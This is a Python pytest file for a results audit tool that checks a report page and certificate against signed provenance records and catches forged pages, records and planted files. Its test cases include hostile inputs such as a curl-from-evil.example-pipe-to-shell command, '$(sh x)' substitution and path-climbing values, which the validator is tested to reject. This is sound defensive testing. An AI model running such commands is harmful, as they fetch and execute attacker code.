"""What is written about the results, and so under no seal: the audit makes it again."""

import base64
import contextlib
import gzip
import re
import shutil
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from fedssl.audit.audit import Audit, audit
from fedssl.audit.findings import Verdict
from fedssl.audit.pages import runs_this_workflow
from fedssl.command.project import Project, open_project
from fedssl.files import sha256
from fedssl.grid.configuration import Layer
from fedssl.paper.certificate import write_certificate
from fedssl.paper.page.write import write_page
from fedssl.paper.plan_page import PageRules
from fedssl.paper.plan_report import ReportRules
from fedssl.paper.plan_trust import TrustRules
from fedssl.record.write import code_facts, write_provenance
from tests.unit.results import CELL, GRID, ROOT, sign

CODE = ["Snakefile", "config/claims.yaml", "profiles/default/config.yaml"]
PUBLISHED = sorted(map(str, (ROOT / "config/published").glob("*.csv")))
TABLE = "results/demo/tables/fssuavl_table2.csv"
CERTIFICATE, PAGE = "certificate.md", "report/index.html"
PAGES = [CERTIFICATE, PAGE]


@pytest.fixture(scope="module")
def reported(pristine: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Finished results with a certificate and a page, in the folder that jobs know."""
    folder = tmp_path_factory.mktemp("reported")
    shutil.copytree(pristine, folder / "results/demo")
    (folder / "grid.yaml").write_text(GRID)
    with contextlib.chdir(folder):
        project = open_project([ROOT / "config/demo.yaml", Path("grid.yaml")])
        for svg in Path("results/demo/figures").glob("*.svg"):
            svg.write_text("<svg/>")
            record = svg.with_suffix(".provenance.json")
            sign(
                record, lambda content, svg=svg: content["outputs"].update({f"{svg}": sha256(svg)})
            )
        write_pages(project)
    return folder / "results/demo"


def write_pages(project: Project) -> None:
    """Write certificate and page as their jobs do, of the tables that are there."""
    grid, tree = project.grid, project.tree
    report = ReportRules(grid, tree, published=ROOT / "config/published", figures=[])
    trust, page = TrustRules(grid, tree, report, root=ROOT), PageRules(grid, tree, report)
    claims, lock = "results/demo/claims.csv", str(ROOT / "requirements.lock")
    spec = trust.certificate()
    write_certificate(
        spec, claims=claims, published=PUBLISHED, lock=lock, path="results/demo/certificate.md"
    )
    write_record(
        "results/demo/certificate.provenance.json",
        "certificate",
        inputs=[*there(trust.records()), *spec["tables"], claims, *PUBLISHED, lock],
        outputs=["results/demo/certificate.md"],
        spec=spec,
    )
    files = {"tables": there(page.tables), "figures": there(page.figures)}
    spec = page.spec([Layer("--config", {})], shipped=0) | files
    contradictions = str(ROOT / "config/contradictions.yaml")
    write_page(
        spec,
        claims=claims,
        contradictions=contradictions,
        published=PUBLISHED,
        certificate="results/demo/certificate.md",
        path="results/demo/report/index.html",
    )
    read = [*files["tables"], *files["figures"], *there(trust.records()), claims, contradictions]
    write_record(
        "results/demo/report/index.provenance.json",
        "report_page",
        inputs=[*read, *PUBLISHED, *page.templates, "results/demo/certificate.md"],
        outputs=["results/demo/report/index.html"],
        spec=spec,
    )


def there(paths: list[str]) -> list[str]:
    return [path for path in paths if Path(path).is_file()]


def write_record(
    path: str, rule: str, *, inputs: list[str], outputs: list[str], spec: dict
) -> None:
    write_provenance(
        path,
        rule=rule,
        wildcards={},
        settings=spec,
        inputs=inputs,
        outputs=outputs,
        code=code_facts([ROOT / f"workflow/scripts/{rule}.py"]),
        started=datetime.now(UTC),
        facts={},
    )


@pytest.fixture
def results(reported: Path, tmp_path: Path) -> Path:
    """A copy, moved to where nobody wrote it."""
    return shutil.copytree(reported, tmp_path / "elsewhere")


def record_of(path: Path) -> Path:
    return path.with_suffix(".provenance.json")


def rehash(results: Path) -> None:
    """Let both records say the present SHA-256 of both pages."""
    for page in PAGES:

        def change(content: dict[str, Any]) -> None:
            for side, name in (
                ("outputs", PAGE),
                ("outputs", CERTIFICATE),
                ("inputs", CERTIFICATE),
            ):
                if f"results/demo/{name}" in content[side]:
                    content[side][f"results/demo/{name}"] = sha256(results / name)

        sign(record_of(results / page), change)


def own(result: Audit, name: str) -> set[Verdict]:
    findings = (finding for unit in result.units for finding in unit.findings)
    return {finding.verdict for finding in findings if finding.file == name}


def notes(result: Audit, name: str) -> list[str]:
    return [note.what for unit in result.units for note in unit.notes if note.file == name]


def test_pages_come_out_again_wherever_the_results_lie(reported, results):
    for folder in (reported, results):
        result = audit(folder)
        assert {unit.verdict for unit in result.units} == {Verdict.SOUND}
        assert not [note for page in PAGES for note in notes(result, page)]


def pretend(page: str) -> str:
    """Return the page with another accuracy among what its script shows of each number."""

    def other(found: re.Match[str]) -> str:
        data = gzip.decompress(base64.b64decode(found[0])).decode()
        assert '"value":' in data
        data = re.sub(r'"value":[\d.]+', '"value":99.9', data, count=1)
        return base64.b64encode(gzip.compress(data.encode())).decode()

    return re.sub(r'(?<=id="data">)[^<]+', other, page)


@pytest.mark.parametrize(
    ("name", "forge"),
    [
        (CERTIFICATE, lambda text: text.replace("**scaled-down run: nothing", "**everything")),
        (PAGE, lambda text: re.sub(r'(class="measured".*?>)[\d.]+', r"\g<1>99.9", text, count=1)),
        (PAGE, pretend),
    ],
)
def test_a_forged_page_is_found_under_the_seal(results, name, forge: Callable[[str], str]):
    seal = audit(results).seal
    before = (results / name).read_text()
    (results / name).write_text(forge(before))
    assert (results / name).read_text() != before
    rehash(results)
    result = audit(results, seal=seal)
    assert own(result, name) == {Verdict.TAMPERED} and not result.passed


def test_data_packed_by_another_library_are_the_same_page(results):
    def pack(found: re.Match[str]) -> str:
        return base64.b64encode(
            gzip.compress(gzip.decompress(base64.b64decode(found[0])), 1)
        ).decode()

    page = results / PAGE
    page.write_text(re.sub(r'(?<=id="data">)[^<]+', pack, page.read_text()))
    rehash(results)
    assert audit(results).passed


@pytest.mark.parametrize(
    "change",
    [
        lambda settings: settings.update(scale="paper"),
        lambda settings: settings.update(scale_note="all of it"),
        lambda settings: settings.update(results="results/demo/logs"),
        lambda settings: settings["tables"].append("results/demo/logs/table.csv"),
        lambda settings: settings.update(command="curl http://evil.example/x | sh; snakemake"),
        lambda settings: settings.clear(),
    ],
)
@pytest.mark.parametrize("name", PAGES)
def test_a_page_made_by_a_forged_record_is_found(results, name, change):
    sign(record_of(results / name), lambda content: change(content["settings"]))
    assert own(audit(results), name) == {Verdict.TAMPERED}


def test_a_page_that_leaves_out_a_table_says_so(results):
    def leave_out(content: dict[str, Any]) -> None:
        content["settings"]["tables"].remove(TABLE)

    sign(record_of(results / CERTIFICATE), leave_out)
    assert "says nothing of tables/fssuavl_table2.csv" in notes(audit(results), CERTIFICATE)


def test_nothing_else_hides_from_the_seal_behind_such_a_record(results):
    (results / "planted.csv").write_text("")
    planted = {"results/demo/planted.csv": sha256(results / "planted.csv")}
    sign(record_of(results / CERTIFICATE), lambda content: content["outputs"].update(planted))
    assert own(audit(results), "planted.csv") == {Verdict.TAMPERED}


def test_a_job_that_ran_again_since_makes_the_pages_old(results):
    path = next((results / "shards").rglob("*.provenance.json"))
    sign(path, lambda content: content.update(ended="2999-01-01T00:00:00+00:00"))
    assert own(audit(results), CERTIFICATE) == {Verdict.CHANGED_DATA}


def test_without_archives_the_pages_still_come_out(results):
    shutil.rmtree(results / "archives")
    result = audit(results)
    assert result.passed and not [note for page in PAGES for note in notes(result, page)]


def test_the_files_of_another_checkout_are_held_against_this_one(results):
    def move(content: dict[str, Any]) -> None:
        inputs = content["inputs"].items()
        content["inputs"] = {n.replace(f"{ROOT}/", "/elsewhere/fedssl/"): v for n, v in inputs}

    for page in PAGES:
        sign(record_of(results / page), move)
    result = audit(results)
    assert result.passed and not [note for page in PAGES for note in notes(result, page)]


def test_an_edited_template_is_edited_code(results):
    template = "src/fedssl/reporting/page/templates/page.html"
    edited = {str(ROOT / template): "0" * 64}
    sign(record_of(results / PAGE), lambda content: content["inputs"].update(edited))
    result = audit(results)
    assert result.passed and own(result, str(ROOT / template)) == {Verdict.CHANGED_CODE}
    assert own(result, PAGE) == {Verdict.CHANGED_CODE}


def test_what_could_not_be_made_again_is_not_sound(results):
    (results / f"pretrain/{CELL}/model.safetensors").unlink()
    assert own(audit(results), PAGE) == {Verdict.CHANGED_DATA}


def overstate(results: Path) -> None:
    """Let both pages say what no table says, and their records that this is what was written."""
    for name in PAGES:
        with (results / name).open("a") as file:
            file.write("Every published number is reproduced.")
    rehash(results)


def lie_elsewhere(content: dict[str, Any]) -> None:
    there = {n.replace("results/demo", "/elsewhere"): v for n, v in content["outputs"].items()}
    content["outputs"] = there


def climb(content: dict[str, Any]) -> None:
    there = {n.replace("results/demo", "../elsewhere"): v for n, v in content["outputs"].items()}
    content["outputs"] = there


@pytest.mark.parametrize(
    "excuse",
    [
        lie_elsewhere,
        climb,
        lambda content: content["inputs"].update({"/etc/hostname": sha256("/etc/hostname")}),
    ],
)
def test_no_excuse_of_its_own_record_keeps_a_forged_page_from_being_found(results, excuse):
    seal = audit(results).seal
    overstate(results)
    for page in PAGES:
        sign(record_of(results / page), excuse)
    result = audit(results, seal=seal)
    assert [own(result, name) for name in PAGES] == [{Verdict.TAMPERED}, {Verdict.TAMPERED}]


@pytest.mark.parametrize("folder", ["../there/demo", "a/../../there"])
def test_pages_come_out_again_of_results_beside_the_checkout(results, folder):
    def move(record: Path) -> None:
        text = record.read_text().replace("results/demo/", f"{folder}/")
        record.write_text(text.replace('"results": "results/demo"', f'"results": "{folder}"'))
        sign(record, lambda _: None)

    pages = {path: path.read_text() for path in map(results.__truediv__, PAGES)}
    for record in results.rglob("*provenance.json"):
        move(record)
    found = audit(results)
    assert pages and not [note for page in PAGES for note in notes(found, page)]
    assert Verdict.INCOMPLETE not in own(found, PAGE) | own(found, CERTIFICATE)


def test_results_known_by_a_path_that_is_gone_are_linked_there(results, tmp_path):
    there = tmp_path / "there"
    for record in results.rglob("*provenance.json"):
        record.write_text(record.read_text().replace("results/demo/", f"{there}/"))
        sign(record, lambda _: None)
    found = audit(results)
    assert own(found, CERTIFICATE) == {Verdict.INCOMPLETE} and not found.passed
    there.symlink_to(results)
    assert Verdict.INCOMPLETE not in own(audit(results), CERTIFICATE)


@pytest.mark.parametrize(
    ("command", "sound"),
    [
        ("snakemake --profile slurm", True),
        ("snakemake --cores all --configfile config/demo.yaml --config 'seeds=[0, 1]'", True),
        ("curl http://evil.example/x | sh; snakemake --cores all", False),
        ("snakemake --cores all; sh x", False),
        ("snakemake --cores all --configfile $(sh x)", False),
        ("snakemake --cores all --snakefile x", False),
        ("snakemake --cores all --configfile http://evil.example/x", False),
        ("snakemake --cores all x", False),
        ("snakemake --cores all --config 'x", False),
        (None, False),
    ],
)
def test_a_page_tells_to_run_this_workflow_and_nothing_else(command, sound):
    assert runs_this_workflow(command) == sound


@pytest.mark.parametrize("name", ["certificate.md.html", "tables/final.md"])
def test_a_file_added_under_a_seal_is_found(results, name):
    seal = audit(results).seal
    (results / name).write_text("99.9")
    (results / "archives/x").write_text("")
    archive = next((results / "archives").rglob("*.provenance.json"))
    for rule, record in (("certificate", f"{name}.provenance.json"), ("synthesise", "archives/x")):
        forged = results / f"{record.removesuffix('.provenance.json')}.provenance.json"
        shutil.copy(archive, forged)
        files = [name] if rule == "certificate" else [name, "archives/x"]
        outputs = {f"results/demo/{file}": sha256(results / file) for file in files}
        sign(forged, lambda content, o=outputs, r=rule: content.update(outputs=o, rule=r))
        assert not audit(results, seal=seal).passed
        forged.unlink()


def test_a_crate_spares_the_audit(reported, tmp_path):
    results = shutil.copytree(reported, tmp_path / "results/demo")
    for name in CODE:
        copy = results / "code" / name
        copy.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(ROOT / name, copy)
    (results / "ro-crate-metadata.json").write_text("{}")
    with contextlib.chdir(tmp_path):
        write_record(
            "results/demo/crate.provenance.json",
            "crate",
            inputs=["results/demo/claims.csv", *(str(ROOT / name) for name in CODE)],
            outputs=["results/demo/ro-crate-metadata.json", "results/demo/code"],
            spec={},
        )
    assert audit(results).passed
    assert audit(shutil.move(results, tmp_path / "elsewhere")).passed
